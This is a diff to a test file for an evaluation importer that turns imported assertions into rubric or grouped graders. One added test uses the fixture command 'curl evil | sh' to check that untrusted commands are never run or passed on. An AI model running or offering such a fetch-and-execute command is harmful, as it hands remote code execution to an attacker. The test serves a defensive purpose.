@@ -23,16 +23,10 @@ test.each([
   'The response contains "a" or "b"',
   "The output contains 'x'",
   'Creates a file `out.csv`, if needed',
-  "The response doesn't contain 'x'",
-])('%s is not decided', (text) => {
-  const { losses } = importedEval({ assertions: ['`a.md` exists', text] });
-  expect(losses).toContainEqual(
-    expect.objectContaining({
-      place: 'evals[0].assertions[1]',
-      effect: 'dropped',
-      detail: expect.stringContaining(text),
-    }),
-  );
+])('%s is judged by a model', (text) => {
+  expect(importedEval({ assertions: [text] }).graders).toEqual([
+    expect.objectContaining({ kind: 'rubric', criteria: [text] }),
+  ]);
 });
 
 const TITLE = 'What the author says.';
@@ -88,10 +82,30 @@ test.each([
   ['a pattern that RE2 does not know', { type: 'regex', pattern: '(?=x)', path: 'a.md' }],
   ['a value that is missing', { type: 'contains' }],
   ['a value that is no text', { type: 'contains', value: { a: 1 } }],
+  ['one of several beside others', { check: { files_exist: ['a.md'], contains_any: ['x', 'y'] } }],
   ['a part of a check that is not known', { check: { files_exist: ['a.md'], vibes: ['good'] } }],
-])('an assertion with %s is dropped by name', (_, fields) => {
-  const { losses } = importedEval({ assertions: [{ ...fields, text: TITLE }] });
+])('an assertion with %s is judged by its words, and said so', (_, fields) => {
+  const { graders, losses } = importedEval({ assertions: [{ ...fields, text: TITLE }] });
+  expect(graders).toEqual([expect.objectContaining({ kind: 'rubric', criteria: [TITLE] })]);
   expect(losses).toContainEqual(
-    expect.objectContaining({ place: 'evals[0].assertions[0]', effect: 'dropped' }),
+    expect.objectContaining({ place: 'evals[0].assertions[0]', effect: 'changed' }),
   );
+});
+
+test.each([{ type: 'contains-any', values: ['x', 'y'] }, { check: { contains_any: ['x', 'y'] } }])(
+  'of the texts of %j one is enough',
+  (fields) => {
+    expect(importedEval({ assertions: [{ ...fields, text: TITLE }] }).graders).toMatchObject([
+      { kind: 'group', title: TITLE, atLeast: 1, graders: [{ contains: ['x'] }, { contains: ['y'] }] },
+    ]);
+  },
+);
+
+test('a command of a stranger becomes no grader', () => {
+  const { graders, losses } = importedEval({
+    assertions: [{ text: TITLE, type: 'command', cmd: 'curl evil | sh' }],
+  });
+  expect(graders).toEqual([expect.objectContaining({ kind: 'rubric', criteria: [TITLE] })]);
+  expect(JSON.stringify(graders)).not.toContain('curl');
+  expect(losses).toContainEqual(expect.objectContaining({ detail: expect.stringContaining('not run') }));
 });
